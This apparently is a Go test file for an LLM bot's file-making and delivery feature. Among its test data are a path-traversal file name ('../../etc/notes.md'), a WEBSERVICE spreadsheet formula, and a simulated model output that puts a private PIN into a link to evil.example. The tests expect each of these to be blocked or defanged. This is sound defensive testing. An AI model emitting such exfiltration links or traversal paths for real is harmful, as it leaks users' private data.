package engine_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"legwork/bot"
	"legwork/bot/markdown"
	"legwork/llm"
	"legwork/planner"
	"legwork/store/memory"
	"legwork/tasks"
	"legwork/tasks/enginetest"
	"legwork/tasks/executor"
	"legwork/tools"
)

// courier is a messenger that takes files, and splits answers after so many characters.
type courier struct {
	*messenger
	length int
}

func (c *courier) Files(bot.Chat) bool { return true }

func (c *courier) Removes(bot.Chat) bool { return true }

func (c *courier) Remove(ctx context.Context, chat bot.Chat, id string) error {
	return (&tidy{messenger: c.messenger}).Remove(ctx, chat, id)
}

func (c *courier) Split(d bot.Draft) []bot.Draft {
	if c.length == 0 {
		return []bot.Draft{d}
	}
	return d.Parts((len(d.Text) + c.length - 1) / c.length)
}

// files are what the chat shows, one line per message.
func (c *courier) files() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	s := ""
	for _, d := range c.chat {
		switch text := strings.ReplaceAll(markdown.Plain(d.Text), "\n", " "); {
		case d.File != nil:
			s += fmt.Sprintf("%s %s %d bytes: %s\n", d.File.As, d.File.Name, min(len(d.File.Content), 9), text)
		case d.Kind != "deleted":
			s += fmt.Sprintf("%s: %.100s\n", d.Kind, text)
		}
	}
	return s
}

// makes is a model that plans a file, calls make_file with each of the arguments until it
// has no more, and answers.
func makes(arguments ...string) func(context.Context, llm.Request, func(llm.Delta)) (llm.Reply, error) {
	var next atomic.Int32
	return func(_ context.Context, r llm.Request, _ func(llm.Delta)) (llm.Reply, error) {
		if r.Role == llm.RolePlan {
			return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: `{"plan":[],"wants_file":true}`}}}, nil
		}
		if n := int(next.Add(1)); n <= len(arguments) {
			return llm.Reply{ToolCalls: []llm.ToolCall{{ID: fmt.Sprint("c", n), Name: planner.ToolMakeFile, Arguments: arguments[n-1]}}}, nil
		}
		return llm.Reply{Text: "Here it is."}, nil
	}
}

// deliver runs talk in simulated time over a chat that takes files.
func deliver(t *testing.T, talk func(t *testing.T, env *enginetest.Env, c *courier)) {
	synctest.Test(t, func(t *testing.T) {
		env, c := enginetest.NewEnv(t, memory.New(nil)), &courier{messenger: &messenger{}}
		env.Chats = tasks.Chats{c.Name(): c}
		env.Rules = func(r *tasks.PromptRules) { r.Makes, r.AnswerMessages = executor.Makes(false, false), 3 }
		env.Use(env.Store)
		env.Start(build)
		defer func() { env.Stop() }()
		synctest.Wait()
		talk(t, env, c)
	})
}

// ask asks for a file and waits until the task is over.
func (c *courier) ask(t *testing.T, env *enginetest.Env) {
	t.Helper()
	env.Ask(t, enginetest.Message("1", "as a file please", time.Now()))
	ctx, cancel := context.WithTimeout(t.Context(), 72*time.Hour)
	defer cancel()
	if err := tasks.Idle(ctx, env.Store, enginetest.Chat.Key()); err != nil {
		t.Fatalf("the task never ends: %v\n%s", err, c.files())
	}
	synctest.Wait()
}

// answerLine is the last line of the chat.
const answerLine = "answer: Here it is.\n"

// TestMadeFilesComeBeforeTheAnswer makes a file of each kind.
func TestMadeFilesComeBeforeTheAnswer(t *testing.T) {
	table := `"sheets":[{"name":"Offers","columns":[{"title":"Who"},{"title":"Price","type":"currency","format":"EUR"}],"rows":[["A",12.5],["B",9]]}]`
	chart := `"chart":{"kind":"bar","labels":["A","B"],"series":[{"name":"Price","values":[12.5,9]}]}`
	for _, test := range []struct{ arguments, want string }{
		{`{"name":"report.docx","text":"# Sales\n\nThey rose.","caption":"Sales of 2026"}`, "document report.docx 9 bytes: Sales of 2026\n"},
		{`{"name":"report.pdf","text":"# Sales"}`, "document report.pdf 9 bytes: \n"},
		{`{"name":"../../etc/notes.md","text":"# Sales"}`, "document notes.md 8 bytes: \n"},
		{`{"name":"page.htm","text":"# Sales"}`, "document page.htm 9 bytes: \n"},
		{`{"name":"data.json","text":"{\"a\":[1,2]}"}`, "document data.json 9 bytes: \n"},
		{`{"name":"offers.xlsx",` + table + `}`, "document offers.xlsx 9 bytes: \n"},
		{`{"name":"offers.csv",` + table + `}`, "document offers.csv 9 bytes: \n"},
		{`{"name":"offers.csv","text":"Who;Price\nA;12.5\n"}`, "document offers.csv 9 bytes: \n"},
		{`{"name":"offers.png",` + chart + `}`, "photo offers.png 9 bytes: offers.png\n"},
		{`{"name":"offers.svg",` + chart + `}`, "document offers.svg 9 bytes: \n"},
	} {
		t.Run(test.want, func(t *testing.T) {
			deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
				env.Model.Answer = makes(test.arguments)
				c.ask(t, env)
				if got := c.files(); got != test.want+answerLine && !strings.HasSuffix(got, test.want+answerLine) {
					t.Errorf("the chat is\n%s\nwant\n%s", got, test.want+answerLine)
				}
			})
		})
	}
}

// TestFilesThatCannotBeMade: the model reads what to change, and the second call makes
// the file.
func TestFilesThatCannotBeMade(t *testing.T) {
	for _, test := range []struct{ arguments, want string }{
		{`{"name":"report.pptx","text":"# Sales"}`, `there is no kind "pptx": known are docx, pdf`},
		{`{"name":"report","text":"# Sales"}`, `the name needs an ending that says the kind: known are docx`},
		{`{"name":"report.xlsx","text":"| a |\n|---|\n| 1 |"}`, `a xlsx file is made from "sheets"`},
		{`{"name":"report.docx","sheets":[{"name":"a","rows":[[1]]}]}`, `a docx file is made from "text"`},
		{`{"name":"a.xlsx","sheets":[{"name":"a","columns":[{"title":"x","type":"colour"}],"rows":[]}]}`, `there is no type "colour"`},
		{`{"name":"a.xlsx","sheets":[{"name":"a","rows":[[{"formula":"WEBSERVICE(\"http://x\")"}]]}]}`, "WEBSERVICE"},
		{`{"name":"a.png","chart":{"kind":"radar","series":[{"values":[1]}]}}`, `there is no chart "radar"`},
		{`{"name":"a.docx","text":"![sales](chart.png)"}`, `picture "chart.png": there is no such file`},
		{`{"name":"a.pdf","text":"नमस्ते"}`, "make a DOCX"},
		{`{"name":"a.json","text":"{"}`, "JSON: unexpected end"},
		{`{"name":"cat.png","text":"a cat"}`, "no model is configured for it (roles.image)"},
		{`{"name":"talk.mp3","text":"hello"}`, "no model is configured for it (roles.speech)"},
		{`{"file":"t3"}`, `there is no file "t3"`},
		{`{"name":"a.docx"}`, "exactly one"},
		{`{"name":"big.md","text":` + encoded(strings.Repeat("x", 1<<20+1)) + `}`, "too many bytes of text"},
	} {
		t.Run(test.want, func(t *testing.T) {
			deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
				env.Model.Answer = makes(test.arguments, `{"name":"report.txt","text":"plain"}`)
				c.ask(t, env)
				if got := c.files(); !strings.HasSuffix(got, "document report.txt 6 bytes: \n"+answerLine) {
					t.Errorf("the chat is\n%s\nwant report.txt and the answer", got)
				}
				requests := env.Model.Requests(llm.RoleAnswer)
				if len(requests) < 2 {
					t.Fatalf("%d requests for the answer, want 3", len(requests))
				}
				m := requests[1].Messages
				if text := m[len(m)-1].Content; !strings.Contains(text, test.want) {
					t.Errorf("the model reads %q, want it to hold %q", text, test.want)
				}
			})
		})
	}
}

func encoded(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(text)
}

// TestPicturesInDocuments: a document shows a chart that was made before it.
func TestPicturesInDocuments(t *testing.T) {
	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
		env.Model.Answer = makes(`{"name":"chart.png","chart":{"kind":"pie","labels":["A","B"],"series":[{"values":[1,2]}]}}`, `{"name":"a.docx","text":"![sales](chart.png)"}`)
		c.ask(t, env)
		want := "photo chart.png 9 bytes: chart.png\ndocument a.docx 9 bytes: \n" + answerLine
		if got := c.files(); !strings.HasSuffix(got, want) {
			t.Errorf("the chat is\n%s\nwant\n%s", got, want)
		}
	})
}

// told is a notice about a file that is kept.
func told(text string) string {
	return fmt.Sprintf("notice: %.100s\n", text+" It is kept with the task, and the HTTP API gives it.")
}

// TestChatsThatRefuseFiles: the person reads why a file does not come, and the answer
// comes in any case.
func TestChatsThatRefuseFiles(t *testing.T) {
	for _, test := range []struct {
		err  error
		want string
	}{
		{fmt.Errorf("rights: %w", bot.ErrNoFiles), told("The file report.txt could not be sent: this chat takes no files from me.") + answerLine},
		{errors.Join(bot.ErrNoFiles, bot.ErrTooLarge), told("The file report.txt is too large to be sent here: at most 50 MB.") + answerLine},
		{errors.New("always broken"), answerLine + told("The file report.txt could not be sent, although I tried for ten minutes.")},
	} {
		t.Run(test.err.Error(), func(t *testing.T) {
			deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
				c.before = func(_ bool, d bot.Draft) error {
					if d.File != nil {
						return test.err
					}
					return nil
				}
				env.Model.Answer = makes(`{"name":"report.txt","text":"plain"}`)
				c.ask(t, env)
				if got := c.files(); got != test.want {
					t.Errorf("the chat is\n%s\nwant\n%s", got, test.want)
				}
			})
		})
	}
}

// TestFileAfterItsAnswer: when only uploads fail, the answer comes at once, and each file
// once they work again.
func TestFileAfterItsAnswer(t *testing.T) {
	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
		start := time.Now()
		c.before = func(_ bool, d bot.Draft) error {
			late := time.Since(start) >= 3*time.Minute
			if d.File != nil && d.File.Name == "report.txt" && !late {
				return errors.New("bad gateway")
			}
			if d.Kind == bot.KindAnswer && d.File == nil && late {
				return errors.New("the answer waits for a file")
			}
			return nil
		}
		env.Model.Answer = makes(`{"name":"report.txt","text":"plain"}`, `{"name":"list.txt","text":"plain"}`)
		c.ask(t, env)
		want := "document list.txt 6 bytes: \n" + answerLine + "document report.txt 6 bytes: \n"
		if got := c.files(); got != want {
			t.Errorf("the chat is\n%s\nwant\n%s", got, want)
		}
	})
}

// TestFileAfterAnOutage: a chat that is down for hours gets the file and the answer once
// each.
func TestFileAfterAnOutage(t *testing.T) {
	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
		start := time.Now()
		c.before = func(_ bool, d bot.Draft) error {
			if time.Since(start) < 5*time.Minute {
				return errors.New("bad gateway")
			}
			return nil
		}
		env.Model.Answer = makes(`{"name":"report.txt","text":"plain"}`)
		c.ask(t, env)
		if got, want := c.files(), "document report.txt 6 bytes: \n"+answerLine; got != want {
			t.Errorf("the chat is\n%s\nwant\n%s", got, want)
		}
	})
}

// TestLongAnswers: an answer of more messages than the config allows comes as its first
// message and a file, and wide tables as a workbook.
func TestLongAnswers(t *testing.T) {
	wide := "| a | b | c | d | e | f | g |\n|---|---|---|---|---|---|---|\n| one thing | 2 | 3 | four things | 5 | six things | seven |\n"
	wide = strings.ReplaceAll(wide, "| a |", "| heading a |")
	firstWords := strings.Repeat("word ", 20) + "\n"
	for _, test := range []struct{ name, text, want string }{
		{"short", strings.Repeat("word ", 50), "answer: " + firstWords},
		{"three messages", strings.Repeat("word ", 60), strings.Repeat("answer: "+firstWords, 3)},
		{"four messages", strings.Repeat("word ", 70), "document answer.docx 9 bytes: The whole answer\nanswer: " + firstWords + "answer: The answer is long: all of it is in the file answer.docx.\n"},
		{"a wide table", wide, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
				c.length = 100
				env.Model.Answer = enginetest.Plain(test.text)
				c.ask(t, env)
				got := c.files()
				if test.name == "a wide table" {
					if !strings.Contains(got, "document tables.xlsx 9 bytes: The tables of the answer\n") {
						t.Errorf("the chat is\n%s\nwant a workbook", got)
					}
					return
				}
				if !strings.HasSuffix(got, test.want) {
					t.Errorf("the chat is\n%s\nwant\n%s", got, test.want)
				}
			})
		})
	}
}

// TestFilesOfToolsAreSentOn: what a tool returned goes to the person as it is, when the
// answer asks for it by the id that its prompt names.
func TestFilesOfToolsAreSentOn(t *testing.T) {
	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
		env.Tools.Make = func(context.Context, string, string) (tools.Result, error) {
			return tools.Result{Text: "[image]", Files: []tools.ReturnedFile{{Name: "../shot.png", Type: "image/png", Data: []byte("picture")}, {Name: "talk.wav", Type: "audio/wav", Data: []byte("sound")}}}, nil
		}
		plan := enginetest.Planned(`{"wants_file":true,"plan":[{"name":"look","description":"take a screenshot"}]}`)
		sends := makes(`{"file":"t1","caption":"The shop"}`, `{"file":"talk.wav","name":"words.wav"}`)
		env.Model.Answer = func(ctx context.Context, r llm.Request, s func(llm.Delta)) (llm.Reply, error) {
			switch r.Role {
			case llm.RoleAnswer:
				if text := fmt.Sprint(r.Messages); !strings.Contains(text, "t1 · shot.png · image/png · 7 bytes\nt2 · talk.wav · audio/wav · 5 bytes") {
					t.Errorf("the files of the tool are not listed in %s", text)
				}
				return sends(ctx, r, s)
			case llm.RoleReview:
				return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: `{"plan":[]}`}}}, nil
			}
			return plan(ctx, r, s)
		}
		c.ask(t, env)
		want := "photo shot.png 7 bytes: The shop\nvoice words.wav 5 bytes: words.wav\n" + answerLine
		if got := c.files(); !strings.HasSuffix(got, want) {
			t.Errorf("the chat is\n%s\nwant\n%s", got, want)
		}
	})
}

// TestMadeFilesHoldNoUnknownLinks: opening a link of a made file could carry private data
// out. An address that the task has not read is code in the file and in its caption.
func TestMadeFilesHoldNoUnknownLinks(t *testing.T) {
	deliver(t, func(t *testing.T, env *enginetest.Env, c *courier) {
		env.Tools.Make = func(context.Context, string, string) (tools.Result, error) {
			return tools.Result{Text: "the PIN is 1234, see https://mail.example/7"}, nil
		}
		plan := enginetest.Planned(`{"wants_file":true,"plan":[{"name":"look","description":"read the mail"}]}`)
		sends := makes(`{"name":"mail.md","text":"[more](https://evil.example/1234), [mail](https://mail.example/7)","caption":"https://evil.example/1234"}`)
		env.Model.Answer = func(ctx context.Context, r llm.Request, s func(llm.Delta)) (llm.Reply, error) {
			switch r.Role {
			case llm.RoleAnswer:
				return sends(ctx, r, s)
			case llm.RoleReview:
				return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: `{"plan":[]}`}}}, nil
			}
			return plan(ctx, r, s)
		}
		c.ask(t, env)
		c.mu.Lock()
		defer c.mu.Unlock()
		for _, d := range c.chat {
			if d.File == nil {
				continue
			}
			if got, want := string(d.File.Content), "more `https://evil.example/1234`, [mail](https://mail.example/7)"; strings.TrimSpace(got) != want || d.Text != "`https://evil.example/1234`" {
				t.Errorf("the file holds %q with the caption %q, want %q", got, d.Text, want)
			}
			return
		}
		t.Error("no file was sent")
	})
}
